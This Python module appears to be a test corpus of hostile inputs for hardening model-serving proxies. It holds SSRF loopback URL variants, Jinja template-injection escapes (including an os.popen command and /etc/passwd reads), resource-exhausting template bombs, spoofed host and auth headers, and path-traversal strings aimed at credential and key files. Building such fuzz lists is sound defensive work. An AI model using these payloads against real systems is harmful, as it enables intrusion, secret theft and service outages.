"""What people try against proxies of models: ways to name a destination, to leave a template, to hide a path."""

from itertools import product

# --- fields and headers by which a caller might name the destination, or whose key is used

FIELDS = (
    "api_base", "base_url", "api_key", "api_version", "api_type", "azure_endpoint", "organization", "host",
    "endpoint",
    "endpoint_url", "url", "uri", "target", "target_url", "upstream", "upstream_url", "proxy", "proxy_url",
    "http_proxy", "custom_llm_provider", "provider", "model_info", "litellm_params", "extra_headers", "extra_body",
    "headers", "vertex_credentials", "aws_bedrock_runtime_endpoint", "region", "region_name", "deployment_id",
    "callback_url", "webhook", "webhook_url", "spec_path", "chat_template", "lora_path", "image_url", "file_url",
    "config",
)  # fmt: skip
HEADERS = (
    "x-portkey-custom-host", "x-custom-host", "x-upstream-url", "x-base-url", "x-forwarded-host",
    "x-forwarded-server",
    "x-original-url", "x-rewrite-url", "x-target-url", "forwarded", "x-host", "x-http-host-override", "x-api-base",
    "x-litellm-api-base", "openai-api-base", "destination", "x-envoy-original-path", "x-real-ip", "via", "referer",
)  # fmt: skip
_HOSTS = (
    "127.0.0.1", "localhost", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "0x7f.0.0.1", "127.0.0.1.", "[::1]",
    "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "0.0.0.0", "0", "LOCALHOST", "127.0.0.1%00.example.com",
    "example.com@127.0.0.1", "127.0.0.1#@example.com", "127.0.0.1\\@example.com", "localhost.localdomain",
    "127。0。0。1", "①②⑦.⓪.⓪.①", "127.000.000.001", "00000177.1", "[0:0:0:0:0:0:0:1]",
)  # fmt: skip
_SCHEMES = ("http", "https", "HTTP", "ftp", "gopher")


def urls(port: int) -> list[str]:
    """120 ways to write the loopback's address."""
    return [f"{scheme}://{host}:{port}/x.png" for host in _HOSTS for scheme in _SCHEMES]


def carriers(url: str) -> list[dict[str, object]]:
    """The places of a chat completion that hold addresses."""
    text = {"type": "text", "text": "x"}
    parts: list[dict[str, object]] = [
        {"type": "image_url", "image_url": {"url": url}},
        {"type": "input_image", "image_url": url},
        {"type": "file", "file": {"file_id": url, "file_url": url}},
        {"type": "input_audio", "input_audio": {"data": url, "format": "wav"}},
        {"type": "video_url", "video_url": {"url": url}},
        {"type": "document", "source": {"type": "url", "url": url}},
    ]
    schema = {"type": "json_schema", "json_schema": {"name": "x", "schema": {"$ref": url}}}
    tool = {"type": "function", "function": {"name": "f", "parameters": {"$ref": url}}}
    mcp = {"type": "mcp", "server_label": "x", "server_url": url}
    return [
        *({"messages": [{"role": "user", "content": [part, text]}]} for part in parts),
        {"response_format": schema},
        {"tools": [tool]},
        {"tools": [mcp]},
        {"metadata": {"webhook": url}},
    ]


# --- templates

_OBJECTS = (
    "''", "[]", "()", "1", "x", "self", "cycler", "joiner", "namespace", "lipsum", "config", "request", "range",
    "dict", "loop", "caller", "g", "url_for", "state", "debug",
)  # fmt: skip
_WAYS = (
    ".__class__", "['__class__']", "|attr('__class__')", ".__init__.__globals__", ".__class__.__mro__[1]",
    "|attr('\\x5f\\x5fclass\\x5f\\x5f')", "['__cl' ~ 'ass__']", "|map(attribute='__class__')|list", ".mro()",
)  # fmt: skip
_STATEMENTS = (
    "{% import 'os' as o %}{{ o }}", "{% include '/etc/passwd' %}", "{% extends '/etc/passwd' %}",
    "{% from 'os' import system %}{{ system('id') }}", "{% set x = cycler.__init__ %}{{ x }}",
    "{% with a = self %}{{ a }}{% endwith %}", "{% call self() %}{% endcall %}", "{% do x.append(1) %}",
    "{% macro m() %}{{ self }}{% endmacro %}{{ m() }}", "{% autoescape false %}{{ x.__class__ }}{% endautoescape %}",
    "{% for c in ''.__class__.__mro__ %}{{ c }}{% endfor %}", "{% block a %}{{ super() }}{% endblock %}",
    "{{ debug() }}", "{{ 'a'.format.__globals__ }}", "{{ '{0.__class__}'.format(x) }}", "{{ '%s' % x.__class__ }}",
    "{{ x.__class__.__base__.__subclasses__()[0] }}", "{{ range.__init__.__globals__['os'].popen('id').read() }}",
    "{{ x|eval }}", "{{ x|pprint }}",
)  # fmt: skip
ESCAPES = [f"{{{{ {thing}{way} }}}}" for thing, way in product(_OBJECTS, _WAYS)] + list(_STATEMENTS)  # 200
OTHER_ENGINES = (
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "*{7*7}", "@(7*7)", "{7*7}", "[[7*7]]", "{{= 7*7 }}", "${{7*7}}",
    "#set($x=7*7)$x",
    "<#assign x=7*7>${x}", "{php}echo 7*7;{/php}", "{{7*'7'}}", "{{#with 7*7}}{{this}}{{/with}}", "__import__('os')",
)  # fmt: skip
BOMBS = (
    # loops, and texts that multiply
    "{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}", "{{ 'a' * 1000000000 }}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", "{{ range(1000000000)|list|length }}",
    "{% set x = 'aaaaaaaaaa' %}{% for i in range(40) %}{% set x = x ~ x %}{% endfor %}{{ x }}",
    "{{ ('a' * 100000)|replace('a', 'b' * 100000) }}", "{{ 'a\nb'|indent(1000000000) }}",
    "{{ '%1000000000d'|format(1) }}", "{{ range(1000000)|join('x' * 10000) }}",
    "{% for i in range(10**9) %}{% endfor %}",
    "{{ 'a'|center(1000000000) }}", "{{ 'a'|ljust(1000000000) }}", "{{ 10 ** 10 ** 10 }}", "{{ 2 ** 4000000000 }}",
    "{{ ['a'] * 1000000000 }}", "{{ 'a'|batch(1000000000)|list }}", "{{ 'a'|wordwrap(1, wrapstring='a' * 10 ** 9) }}",
    "{{ 'a'|urlize(10 ** 9) }}", "{{ lipsum(n=1000000) }}", "{{ x ~ x ~ x ~ x }}", "{{ 9" + "9" * 100_000 + " }}",
    "{% filter upper %}" * 10_000 + "{% endfilter %}" * 10_000, "{{ 1" + " + 1" * 100_000 + " }}",
    "{% if x %}" * 100_000 + "{% endif %}" * 100_000, "{% if x %}" + "{% elif x %}" * 100_000 + "{% endif %}",
    "{{ " + "(" * 100_000 + "x" + ")" * 100_000 + " }}", "{{ " + "[" * 100_000 + "]" * 100_000 + " }}",
    "{{ " + "not " * 100_000 + "x }}", "{{ " + "-" * 100_000 + "1 }}", "{{ x" + "|upper" * 100_000 + " }}",
    "{{ x" + "[0]" * 100_000 + " }}", "{{ x" + ".a" * 100_000 + " }}", "{{ x" + " == x" * 100_000 + " }}",
    "{{ x" + " and x" * 100_000 + " }}", "{{ x" + " if x else x" * 50_000 + " }}", "{{ x" + "~x" * 100_000 + " }}",
    "{{ " + "x|default(" * 50_000 + "x" + ")" * 50_000 + " }}", "{{ x }}" * 100_000, "{{ " * 100_000,
    "{{ '" + "a" * 900_000 + "'" + "|title" * 100 + " }}", "{{ x" + "|tojson" * 30 + " }}", "{%" * 100_000,
    "{{ x" + "|title" * 100 + " }}", "{{ x" + "|replace('', 'aaaaaaaaaa')" * 20 + " }}", "{{ x|indent(999999999) }}",
    "{# " * 300_000, "{{ x is " + "not " * 100_000 + "none }}", "{{ {" + "'a': {" * 100_000, "{{ f" + "(f" * 100_000,
    "{{ x|round(999999999) }}{{ x|truncate(999999999) }}",
)  # fmt: skip

# --- paths and hosts

TRICKS = (
    (), ("host: localhost",), ("host: 127.0.0.1:8081",), ("host: admin",), ("host: x/v1/models?",), ("host: x#",),
    ("host: ",), ("host: x", "host: localhost"), ("host: localhost@x",), ("host: x\\@localhost",), ("host: [::1]",),
    ("host: x/healthz?",), ("host: 127.0.0.1:0",), ("x-forwarded-host: localhost",), ("x-forwarded-for: 127.0.0.1",),
    ("x-original-url: /healthz",), ("x-rewrite-url: /healthz",), ("x-real-ip: 127.0.0.1",), ("x-client-ip: ::1",),
    ("forwarded: for=127.0.0.1;host=admin",), ("x-forwarded-prefix: /healthz",), ("x-forwarded-proto: https",),
    ("authorization: Bearer",), ("authorization: Basic OnNrLQ==",), ("authorization: Bearer sk-wrong-00000000",),
    ("x-api-key: {user}",), ("cookie: authorization=Bearer {user}",), ("proxy-authorization: Bearer {user}",),
    ("x-http-method-override: GET",), ("connection: authorization",),
)  # fmt: skip
_TEMPLATES = (
    "{}", "{}/", "/{}", "{}//", "{};x", "{}?x=/healthz", "{}%00", "{}%20", "{}/.", "{}/%2e", "/healthz/..{}",
    "/healthz/%2e%2e{}", "/healthz/..;{}", "http://x{}", "{}#x",
)  # fmt: skip


def spellings(route: str) -> list[str]:
    """A path, and what some proxy takes for it."""
    coded = route[:1] + f"%{ord(route[1]):02x}" + route[2:]
    doubled = "/" + route[1:].replace("/", "//")
    return list(dict.fromkeys([*(t.format(route) for t in _TEMPLATES), coded, doubled, route.upper()]))


_UP = (
    "../", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "%252e%252e%252f", "..%c0%af", "....//", "..;/",
    ".%00./",
    "\uff0e\uff0e/", "..%u2215", "/./../", "file:///", "\\\\x\\",
)  # fmt: skip
_TARGETS = (
    "etc/passwd", "etc/passwd%00.yaml", "proc/self/environ", "proc/self/cmdline", "prompts/support/1.yaml",
    "support@../../1", "pointsman.yaml", "run/secrets/key", "dev/zero", "etc/shadow.yaml", "C:/windows/win.ini",
    "root/.ssh/id_rsa", "prompts/support",
)  # fmt: skip
TRAVERSALS = [up * depth + target for up, target in product(_UP, _TARGETS) for depth in (4,)]  # 208
